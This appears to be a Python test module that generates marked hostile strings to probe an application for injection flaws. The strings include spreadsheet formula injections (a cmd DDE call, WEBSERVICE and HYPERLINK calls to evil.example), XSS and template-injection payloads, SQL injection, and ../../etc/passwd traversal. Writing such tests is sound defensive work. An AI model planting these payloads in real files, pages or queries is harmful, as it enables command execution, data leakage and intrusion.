"""Makes hostile values: each of them tries one known way to become more than text.

A value holds the marker of its number, so that a search finds where it went. The same seed gives
the same values.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

ELSEWHERE = "evil.example"
"""The host that every address of a hostile value names."""

HIT = "window.__hit=1"
"""What every script of a hostile value does."""

_FORMULAS = (
    '=HYPERLINK("http://{host}/{m}","{m}")', "=1+1{m}", "+1+{m}", "-1-{m}", "@SUM(1)+{m}",
    "\t=1+{m}", "\r=1+{m}", "\n=1+{m}", "＝1+{m}", "＋1{m}", "－1{m}", "＠SUM{m}", "﹦1+{m}",
    "\u00a0=1+{m}", "\u200b=1+{m}", "\ufeff=1+{m}", "\u00ad=1+{m}", "\u202e=1+{m}",
    '"=1+{m}', "'=1+{m}", ";=1+{m}", "a{m};=1+1", 'a{m}";=1+1', "a{m}\n=1+1", "a{m}\t=1+1",
    "=cmd|' /C calc'!A{m}", "=WEBSERVICE(\"http://{host}/{m}\")", "%0A=1+{m}", "''=1+{m}",
)  # fmt: skip
_HTML = (
    "<script>{hit}</script>{m}", "</script><script>{hit}//{m}", "<img src=x onerror={hit}>{m}",
    '"><svg onload={hit}>{m}', "' onmouseover='{hit}' x='{m}", "<b>{m}</b>", "<!-- {m} -->",
    '<iframe src="javascript:{hit}"></iframe>{m}', "<img src=http://{host}/{m}.png>",
    '<a href="javascript:{hit}">{m}</a>', "javascript:{hit}//{m}", "&lt;script&gt;{hit}{m}",
    "<style>@import 'http://{host}/{m}.css'</style>", "<link rel=stylesheet href=//{host}/{m}>",
    "<base href=//{host}/>{m}", "<details open ontoggle={hit}>{m}", "<math><mi xlink:href=x>{m}",
    "{{{{7*7}}}}{m}", "${{7*7}}{m}", "{{% print 7 %}}{m}", "<%= 7*7 %>{m}",
)  # fmt: skip
_MARKDOWN = (
    "[{m}](http://{host}/)", "![{m}](http://{host}/{m}.png)", "<http://{host}/{m}>",
    "http://{host}/{m}", "https://{host}/{m}", "www.{host}/{m}", "a{m}@{host}", "**{m}**",
    "# {m}", "1. {m}", "- {m}", "> {m}", "`{m}`", "~~{m}~~", "| {m} | b |", "---\n{m}", "_{m}_",
    "$\\frac{{{m}}}{{2}}$", "$$x^{m}$$", ":red[{m}]", ":red-background[{m}]", ":blue-badge[{m}]",
    ":rainbow[{m}]", ":small[{m}]", ":material/home: {m}", ":material_home: {m}", ":smile: {m}",
    ":streamlit: {m}", ":+1: {m}", "{m} -> b", "{m} <- b", "{m} <-> b", "{m} -- b", "{m} >= b",
    "{m} ~= b", ":help[{m}]", "[^1] {m}", "\\{m}\\", "&amp;{m}&#39;",
    ":color[{m}]{{foreground=red}}",
)  # fmt: skip
_UNSEEN = (
    "\u202e{m}\u202c", "\u202d{m}", "\u2066{m}\u2069", "\u2067{m}", "\u061c{m}", "\u200f{m}",
    "{m}\u200b\u200c\u200d{m}", "\ufeff{m}", "{m}\u00ad{m}", "{m}\x00{m}", "{m}\x07\x1b[31m",
    "\x1b]0;{m}\x07", "{m}\x85{m}", "{m}\u2028{m}\u2029", "\ufff9{m}\ufffa\ufffb", "{m}\x7f",
    "\U000e0041{m}", "{m}\ufe0f", "\u0645\u062d\u0645\u062f {m} 12", "\u05e9\u05dd ({m}) - 5",
    "a\u0302\u0301\u0323{m}", "Nguyê\u0303n {m}", "\u115f{m}", "{m}\ufffe",
)  # fmt: skip
_OTHER = (
    "'; drop table people; -- {m}", '" or "1"="1 {m}', "{m}\\", "../../etc/passwd {m}", "{m}/../..",
    "C:\\{m}\\aux", "CON {m}", '{m}","{m}', '{m}""{m}', "{m},{m};{m}\t{m}", "{m}\r\n{m}",
    "%s%n {m}",
    "{m}%00", "None {m}", "nan {m}", "1e309 {m}", "0x{m}", "O'Đình {m}", "file:///{m}", "data:,{m}",
)  # fmt: skip
MARKDOWN = slice(len(_FORMULAS) + len(_HTML), len(_FORMULAS) + len(_HTML) + len(_MARKDOWN))
"""Where the shapes of Markdown stand among all."""
SHAPES: tuple[str, ...] = (*_FORMULAS, *_HTML, *_MARKDOWN, *_UNSEEN, *_OTHER)

PLACES = ("unit", "code", "alias", "contact", "roster", "title", "question", "person", "proposal",
          "note", "author", "purpose")  # fmt: skip
"""Where values stand besides the sheet. Each place has a thousand markers of its own."""
_BLOCK, _FIRST_BLOCK = 1_000, 20


def marker(number: int) -> str:
    """The marker of a value: a word that no page, file or log holds by itself."""
    return f"zq{number:05}x"


def hostile(count: int, seed: int = 13, first: int = 0) -> Iterator[str]:
    """`count` values, each with its marker (from number `first` on): first every shape alone, then
    mixtures of two."""
    chance = random.Random(seed)
    for number in range(count):
        filled = {"m": marker(first + number), "host": ELSEWHERE, "hit": HIT}
        if number < len(SHAPES):
            yield SHAPES[number].format(**filled)
            continue
        parts = [shape.format(**filled) for shape in chance.sample(SHAPES, 2)]
        yield chance.choice(("", " ", ";", "\n")).join(parts)


def planted(place: str) -> list[str]:
    """Every shape alone, with the markers of a place, and without the zero byte that no file may
    hold."""
    first = (_FIRST_BLOCK + PLACES.index(place)) * _BLOCK
    return [value.replace("\x00", "") for value in hostile(len(SHAPES), first=first)]


def place_of(found: str) -> str:
    """The place of a marker; "sheet" for one of a row.

    >>> place_of("zq20007x"), place_of("zq00007x")
    ('unit', 'sheet')
    """
    block = int(found[2:7]) // _BLOCK - _FIRST_BLOCK
    return PLACES[block] if 0 <= block < len(PLACES) else "sheet"


def huge(number: int = 99_999) -> str:
    """A value of one megabyte."""
    return f"={marker(number)}" + "<b>ă;=</b>" * 100_000
